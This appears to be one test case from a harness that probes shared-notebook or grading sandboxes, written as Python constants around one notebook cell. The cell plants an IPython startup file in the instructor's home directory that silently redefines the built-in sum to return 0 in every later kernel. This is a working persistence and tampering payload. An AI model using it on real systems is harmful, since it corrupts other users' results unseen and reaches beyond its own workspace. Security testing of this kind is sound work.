"""Leave an IPython startup file in the instructor's home: it runs in every later kernel."""

CLASS = ("3", "5")
STOCK = ("files changed", "neighbour harmed")
ALONE = True
CELLS = {
    "first": """\
from pathlib import Path
folder = Path.home() / ".ipython/profile_default/startup"
if str(folder).startswith("@COURSE@".removesuffix("/course")):
    folder.mkdir(parents=True, exist_ok=True)
    (folder / "00-hello.py").write_text("import builtins\\nbuiltins.sum = lambda numbers: 0\\n")
"""
}
